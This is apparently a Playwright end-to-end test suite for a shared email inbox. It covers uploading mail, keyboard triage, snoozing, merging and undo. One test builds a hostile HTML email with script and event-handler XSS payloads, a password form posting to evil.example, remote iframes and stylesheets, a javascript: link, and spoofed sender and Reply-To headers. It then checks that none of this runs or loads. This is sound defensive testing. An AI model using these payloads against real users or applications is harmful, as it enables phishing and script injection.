import { expect, type Page, test } from '@playwright/test'

import { inBothModes } from './accessibility.ts'
import { call, create, enterAsFounder } from './people.ts'

type Written = {
  id: string
  subject: string
  from?: string
  text?: string
  html?: string
  headers?: readonly string[]
}

const hourMs = 3_600_000

/** A mail as a file, sent an hour ago. */
function mailFile({
  id,
  subject,
  from = 'Linden Fund <fund@linden.example>',
  text,
  html,
  headers = [],
}: Written) {
  const lines = [
    `From: ${from}`,
    'To: Ada Lovelace <ada@example.com>',
    `Date: ${new Date(Date.now() - hourMs).toUTCString()}`,
    `Message-ID: <${id}@linden.example>`,
    `Subject: ${subject}`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/alternative; boundary=part-of-this-mail',
    ...headers,
    '',
    ...(text === undefined
      ? []
      : ['--part-of-this-mail', 'Content-Type: text/plain; charset=utf-8', '', text]),
    ...(html === undefined
      ? []
      : ['--part-of-this-mail', 'Content-Type: text/html; charset=utf-8', '', html]),
    '--part-of-this-mail--',
    '',
  ]
  return { name: `${id}.eml`, mimeType: 'message/rfc822', buffer: Buffer.from(lines.join('\r\n')) }
}

/** Brings mails by a call. */
async function bring(page: Page, ...mails: readonly Written[]): Promise<void> {
  const { orgId } = (await call(page, 'GET', '/users/me')) as { orgId: string }
  for (const mail of mails) {
    const answer = await page.request.post('/api/messages/upload', {
      headers: { 'x-org-id': orgId },
      multipart: { file: mailFile(mail) },
    })
    expect(answer.status(), await answer.text()).toBe(201)
  }
}

const list = (page: Page, part = 'Desk') => page.getByRole('list', { name: part })
const read = (page: Page) => page.getByRole('region', { name: 'Conversation', exact: true })

const hostile = [
  '<script>alert(1)</script><svg onload="alert(2)"></svg>',
  '<img src="x" onerror="alert(3)"><img src="https://pictures.example/pixel.png" alt="A picture">',
  '<form action="https://evil.example/take"><input name="password"><button>Send</button></form>',
  '<iframe src="https://evil.example/frame"></iframe><link rel="stylesheet" href="https://evil.example/a.css">',
  '<div style="background:url(https://evil.example/b.png)">Please pay to the <b>new account</b>.</div>',
  '<a href="javascript:alert(4)">here</a> <a href="https://evil.example/pay">https://linden.example/portal</a>',
  '<span style="display:none">Words that nobody sees</span>',
].join('')

test('a hostile mail is brought and read, and nothing of it runs, asks or leaves @phone', async ({
  page,
}) => {
  await enterAsFounder(page)
  const look = inBothModes(page)
  const dialogs: string[] = []
  const foreign: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    const { protocol, hostname } = new URL(request.url())
    if (/^https?:$/.test(protocol) && hostname !== 'localhost') foreign.push(request.url())
  })
  await page.route('https://pictures.example/**', (route) => route.abort())

  await page.goto('/shared-inbox')
  await expect(page.getByText('Nothing waits here')).toBeVisible()
  await look('an empty inbox')
  await page.getByRole('button', { name: 'Bring a mail' }).first().click()
  const dialog = page.getByRole('dialog')
  const mail = {
    id: 'pay',
    subject: 'New bank details',
    from: '"fund@linden.example" <fund@elsewhere.example>',
    text: 'Please pay to the new account.',
    html: hostile,
    headers: ['Reply-To: payments@third.example'],
  }
  const broken = { name: 'holiday.png', mimeType: 'image/png', buffer: Buffer.from('no mail') }
  await dialog.getByLabel('Mails to bring').setInputFiles([mailFile(mail), mailFile(mail), broken])
  const brought = dialog.getByRole('list', { name: 'What was brought' })
  await expect(brought).toHaveAttribute('aria-busy', 'false')
  await expect(brought.getByText('is in the inbox now')).toBeVisible()
  await expect(brought.getByText('was here before')).toBeVisible()
  await expect(brought.getByText(/Failed to take in the mail: holiday.png/)).toBeVisible()
  await look('mails that were brought')
  await brought.getByRole('link', { name: 'New bank details' }).first().click()

  await expect(page.getByRole('heading', { name: 'New bank details' })).toBeVisible()
  await expect(read(page).getByText('fund@elsewhere.example').first()).toBeVisible()
  await expect(read(page).getByText(/may not be from whom it seems/)).toBeVisible()
  await expect(read(page).getByText(/An answer would go to payments@third.example/)).toBeVisible()
  await expect(read(page).getByText(/shows fund@linden.example, but the mail is from/)).toBeVisible()
  await expect(read(page).getByText('Please pay to the new account.', { exact: true })).toBeVisible()
  await look('a suspicious mail')

  await read(page).getByText('As page').click()
  const frame = page.frameLocator('iframe')
  await expect(frame.getByText('new account')).toBeVisible()
  await expect(read(page).getByText('Its links lead to: evil.example')).toBeVisible()
  await expect(frame.locator('script, form, input, iframe, link, svg')).toHaveCount(0)
  // What lies half below the bar of a phone would count as too small to hit.
  await page.evaluate(() => window.scrollTo(0, 0))
  await look('the page of a mail')
  await read(page).getByRole('button', { name: 'Show what it hides' }).click()
  await expect(read(page).getByText('Words that nobody sees')).toBeVisible()
  expect(foreign).toEqual([])

  await read(page).getByRole('button', { name: 'Load them all the same' }).click()
  await expect.poll(() => foreign).toEqual(['https://pictures.example/pixel.png'])
  await expect(frame.getByText('new account')).toBeVisible()
  expect(dialogs).toEqual([])
})

test('a conversation is given, noted on, snoozed and done by keys, and each is taken back', async ({
  page,
}) => {
  await enterAsFounder(page)
  const look = inBothModes(page)
  const { id: companyId } = await create(page, '/companies', { name: 'Linden Capital', type: 'FUND_MANAGER' })
  await bring(
    page,
    { id: 'one', subject: 'Capital call', text: 'Please pay.\r\n\r\nOn Monday Ada wrote:\r\n> What is due?' },
    { id: 'two', subject: 'Annual report', text: 'Attached.' },
    { id: 'three', subject: 'Insurance', from: 'Insurer <a@insurer.example>', text: 'It is due.' },
  )
  await page.goto('/shared-inbox')
  const lines = list(page).getByRole('listitem')
  await expect(lines).toHaveCount(3)
  await expect(page.getByRole('navigation', { name: 'Pages' }).getByText('3 new')).toBeAttached()
  await expect(lines.first()).toContainText('New:')

  await page.keyboard.press('?')
  await expect(page.getByRole('dialog', { name: 'Keys' }).getByText('Previous conversation')).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(page.getByRole('dialog')).toHaveCount(0)

  // The keyboard goes through the list, opens one, and what was opened is read.
  await page.keyboard.press('j')
  await page.keyboard.press('j')
  await expect(lines.nth(1).getByRole('link')).toBeFocused()
  await page.keyboard.press('k')
  await page.keyboard.press('Enter')
  const subject = (await read(page).getByRole('heading', { level: 2 }).innerText()).trim()
  await expect(lines.first()).not.toContainText('New:')
  await page.keyboard.press('a')
  await expect(read(page).getByRole('button', { name: 'Assigned: Mine' })).toBeVisible()
  await page.keyboard.press('n')
  await page.keyboard.type('Ask the bank, please.')
  await page.keyboard.press('Control+Enter')
  await expect(read(page).getByRole('article', { name: 'Note from Ada Lovelace' })).toContainText(
    'Ask the bank',
  )
  await page.getByLabel('Note', { exact: true }).blur()
  await look('a conversation with a note')

  // What it is about, and back on the page of that record.
  await read(page).getByRole('button', { name: 'Say what it is about' }).click()
  await page.getByPlaceholder(/Search positions/).fill('Linden')
  await page.getByRole('option', { name: /Linden Capital/ }).click()
  await expect(read(page).getByRole('list', { name: 'What it is about' })).toContainText('Linden Capital')
  await page.goto(`/companies/${companyId}`)
  await page.getByRole('link', { name: new RegExp(subject) }).click()
  await expect(read(page).getByRole('button', { name: 'Snooze…' })).toBeVisible()
  await expect(lines).toHaveCount(3)

  await page.keyboard.press('s')
  await expect(page.getByRole('dialog')).toBeVisible()
  await look('how long to snooze')
  await page.getByRole('dialog').getByRole('button', { name: 'Until the next answer' }).click()
  await expect(lines).toHaveCount(2)
  await page.getByRole('button', { name: 'Undo' }).click()
  await expect(lines).toHaveCount(3)

  await list(page).getByRole('link').first().click()
  await page.keyboard.press('e')
  await expect(lines).toHaveCount(2)
  await page.getByRole('link', { name: 'Done' }).click()
  await expect(list(page, 'Done').getByRole('listitem')).toHaveCount(1)
  await page.getByRole('button', { name: 'Undo' }).last().click()
  await expect(page.getByText('Nothing waits here')).toBeVisible()

  // Single keys are letters in a field.
  await page.goto('/shared-inbox')
  await expect(lines).toHaveCount(3)
  await page.keyboard.press('/')
  await page.keyboard.type('zebra e#')
  await expect(page.getByText('No conversation of this part fits these filters.')).toBeVisible()
  await page.getByRole('button', { name: 'Clear filters' }).click()
  await expect(lines).toHaveCount(3)
})

test('conversations become one and two again, go to the trash and come back', async ({ page }) => {
  await enterAsFounder(page)
  const look = inBothModes(page)
  await bring(
    page,
    { id: 'one', subject: 'Capital call', text: 'Please pay.' },
    { id: 'two', subject: 'Annual report', text: 'Attached.' },
  )
  await page.goto('/shared-inbox')
  const lines = list(page).getByRole('listitem')
  await page.getByRole('checkbox', { name: 'Choose Capital call' }).click()
  await page.getByRole('checkbox', { name: 'Choose Annual report' }).click()
  await look('chosen conversations')
  await page.getByRole('button', { name: 'Make one' }).click()
  await expect(lines).toHaveCount(1)
  const messages = read(page)
    .getByRole('list', { name: /Messages/ })
    .getByRole('article')
  await expect(messages).toHaveCount(2)

  await messages
    .first()
    .getByRole('button', { name: /^Actions for the message/ })
    .click()
  await page.getByRole('menuitem', { name: 'Make it a conversation of its own' }).click()
  await expect(lines).toHaveCount(2)
  await expect(messages).toHaveCount(1)
  await page.getByRole('button', { name: 'Undo' }).last().click()
  await expect(lines).toHaveCount(1)
  await expect(messages).toHaveCount(2)

  await messages
    .first()
    .getByRole('button', { name: /^Actions for the message/ })
    .click()
  await page.getByRole('menuitem', { name: 'In the book' }).click()
  await expect(messages.first()).toBeVisible()

  await page.keyboard.press('#')
  await expect(page.getByText('Nothing waits here')).toBeVisible()
  await page.getByRole('button', { name: 'Undo' }).last().click()
  await expect(lines).toHaveCount(1)

  // A mail that may belong to it is put there by a person.
  await bring(page, { id: 'three', subject: 'Re: Annual report', text: 'A reminder.' })
  await page.goto('/shared-inbox')
  await list(page)
    .getByRole('link', { name: /Re: Annual report/ })
    .click()
  await expect(read(page).getByText(/It may belong to/)).toBeVisible()
  await look('a mail that may belong to a conversation')
  await read(page).getByRole('button', { name: 'Put it there' }).click()
  await expect(lines).toHaveCount(1)
  await expect(messages).toHaveCount(3)
  await page.getByRole('button', { name: 'Undo' }).last().click()
  await expect(lines).toHaveCount(2)
})
